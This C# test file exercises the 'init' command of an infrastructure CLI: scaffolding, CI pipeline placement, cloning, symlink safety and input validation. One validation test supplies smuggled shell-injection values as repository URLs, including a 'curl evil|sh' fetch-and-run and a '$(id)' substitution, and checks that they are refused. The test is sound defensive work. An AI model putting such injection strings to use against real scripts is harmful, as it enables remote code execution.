using LcncInfra.Cli.Init;
using LcncInfra.Cli.Running;
using LcncInfra.Cli.Tests.Running;
using LcncInfra.Testing;
using LcncInfra.Testing.Files;
using LcncInfra.Testing.Git;

namespace LcncInfra.Cli.Tests.Init;

public sealed class InitCommandTests : IDisposable
{
    private readonly TemporaryFolder _folder = new();

    private string Fleet => _folder.Of("fleet");

    public void Dispose() => _folder.Dispose();

    [Fact]
    public void A_new_control_plane_is_valid_passes_its_tests_and_generates_at_once()
    {
        Assert.Equal(ExitCode.Done, CommandRun.Of("init", Fleet).Code);

        foreach (var arguments in new string[][] { ["validate", Fleet, "--warnings-as-errors"], ["test", Fleet], ["generate", Fleet, "--out", _folder.Of("out")] })
        {
            var run = CommandRun.Of(arguments);
            Assert.True(run.Code == ExitCode.Done, run.Out + run.Error);
        }

        Assert.True(File.Exists(_folder.Of("out", "prod", "cloud", "hello-web", "reconciler.yaml")));
    }

    [Fact]
    public void The_example_is_the_one_of_the_documentation() => Assert.Equal(
        Directory.EnumerateFiles(RepositoryRoot.Of("examples", "new-control-plane"), "*", new EnumerationOptions { RecurseSubdirectories = true, AttributesToSkip = 0 })
            .Select(file => Path.GetRelativePath(RepositoryRoot.Of("examples", "new-control-plane"), file).Replace('\\', '/'))
            .Order(StringComparer.Ordinal),
        Scaffold.ControlPlane(Repositories.Example).Select(f => f.Path));

    [Theory]
    [InlineData("github", ".github/workflows/lcnc-publish.yaml")]
    [InlineData("gitlab", ".gitlab-ci.yml")]
    [InlineData("azure", "azure-pipelines.yml")]
    [InlineData("tekton", ".tekton/lcnc.yaml")]
    public void Pipelines_stand_where_their_system_looks_and_publish_to_the_repository_that_is_named(string system, string file)
    {
        const string Repository = "https://git.contoso.example/fleet/gitops.git";

        Assert.Equal(ExitCode.Done, CommandRun.Of("init", Fleet, "--ci", system, "--repository", Repository).Code);

        Assert.Contains(Repository, File.ReadAllText(Path.Combine(Fleet, file)), StringComparison.Ordinal);
        Assert.Contains(Repository, File.ReadAllText(Path.Combine(Fleet, "prod", "repositories.yaml")), StringComparison.Ordinal);
        Assert.Equal(ExitCode.Done, CommandRun.Of("validate", Fleet).Code);
    }

    [Fact]
    public void A_clone_of_the_new_control_plane_gives_what_the_folder_gives_and_its_flow_is_right()
    {
        const string Own = "https://git.contoso.example/fleet/control-plane.git";
        CommandRun.Of("init", Fleet, "--control-plane", Own);
        Assert.Contains(Own, File.ReadAllText(Path.Combine(Fleet, "dev", "repositories.yaml")), StringComparison.Ordinal);
        GitSandbox.Run(Fleet, "init", "--quiet", "--initial-branch=main");
        GitSandbox.CommitAll(Fleet);

        var clone = CommandRun.Of("generate", $"git+{Fleet}", "--out", _folder.Of("clone"));

        Assert.True(clone.Code == ExitCode.Done, clone.Error);
        Assert.Equal(Rendering(clone), Rendering(CommandRun.Of("generate", Fleet, "--out", _folder.Of("folder"))));
        Assert.Equal(ExitCode.Done, CommandRun.Of("promote", "check", Fleet).Code);
    }

    [Fact]
    public void A_control_plane_that_is_there_gets_pipelines_and_no_example()
    {
        Directory.CreateDirectory(Path.Combine(Fleet, ".environments"));

        var run = CommandRun.Of("init", Fleet, "--ci", "azure");

        Assert.Equal("written  azure-pipelines.yml\n", run.Out);
        Assert.Contains("no example", run.Error, StringComparison.Ordinal);
    }

    [Fact]
    public void Files_that_are_there_stay_as_they_are()
    {
        Directory.CreateDirectory(Fleet);
        File.WriteAllText(Path.Combine(Fleet, "README.md"), "Mine.");

        var run = CommandRun.Of("init", Fleet);

        Assert.Contains("kept     README.md\n", run.Out, StringComparison.Ordinal);
        Assert.Equal("Mine.", File.ReadAllText(Path.Combine(Fleet, "README.md")));
        Assert.True(File.Exists(Path.Combine(Fleet, "main", "hello.yaml")));
    }

    [Fact]
    public void A_link_leads_nowhere_else()
    {
        Directory.CreateDirectory(Fleet);
        Directory.CreateDirectory(_folder.Of("elsewhere"));
        Directory.CreateSymbolicLink(Path.Combine(Fleet, "main"), _folder.Of("elsewhere"));

        CommandRun.Of("init", Fleet);

        Assert.Empty(Directory.EnumerateFileSystemEntries(_folder.Of("elsewhere")));
    }

    [Fact]
    public void A_folder_that_is_a_file_is_an_error()
    {
        File.WriteAllText(Fleet, string.Empty);

        var run = CommandRun.Of("init", Fleet);

        Assert.Equal(ExitCode.EnvironmentFailed, run.Code);
        Assert.Contains("LC7401", run.Error, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("https://me:hunter2@git.example.com/platform/gitops")]
    [InlineData("https://git.example.com/a b")]
    [InlineData("https://git.example.com/x';curl evil|sh")]
    [InlineData("https://git.example.com/$(id)")]
    [InlineData("/srv/git/gitops")]
    public void A_repository_that_cannot_stand_in_scripts_is_refused_and_nothing_is_written(string repository)
    {
        var run = CommandRun.Of("init", Fleet, "--ci", "github", $"--repository={repository}");

        Assert.Equal(ExitCode.WrongInput, run.Code);
        Assert.Contains("LC7402", run.Error, StringComparison.Ordinal);
        Assert.DoesNotContain("hunter2", run.Error, StringComparison.Ordinal);
        Assert.False(Directory.Exists(Fleet));
    }

    [Fact]
    public void The_commands_of_the_workflow_show_what_a_pull_request_changes()
    {
        var (current, proposed, runner) = (_folder.Of("current"), _folder.Of("proposed"), _folder.Of("runner"));
        CommandRun.Of("init", current);
        CommandRun.Of("init", proposed);
        File.AppendAllText(Path.Combine(proposed, "prod", "values.yaml"), "  SHOUT: \"yes\"\n");
        var workflow = PipelineText.Of("github").Single(f => f.Path.EndsWith("lcnc-diff.yaml", StringComparison.Ordinal)).Text;

        var runs = PipelineText.Calls(workflow).Select(call => CommandRun.Of([.. call.Select(argument => argument switch
        {
            "current" => current,
            "proposed" => proposed,
            _ => argument.Replace("$RUNNER_TEMP", runner, StringComparison.Ordinal),
        })])).ToList();

        Assert.All(runs, run => Assert.True(run.Code == ExitCode.Done, run.Error));
        Assert.Contains("+    SHOUT: \"yes\"", runs[^1].Out, StringComparison.Ordinal);
        Assert.Contains("<code>prod</code>: 1 file changed", runs[^1].Out, StringComparison.Ordinal);
        Assert.Contains("<code>dev</code>: nothing differs", runs[^1].Out, StringComparison.Ordinal);
    }

    private static IEnumerable<string> Rendering(CommandRun run) => run.Out.Split('\n').Where(l => l.Contains("rendering sha256:", StringComparison.Ordinal));
}
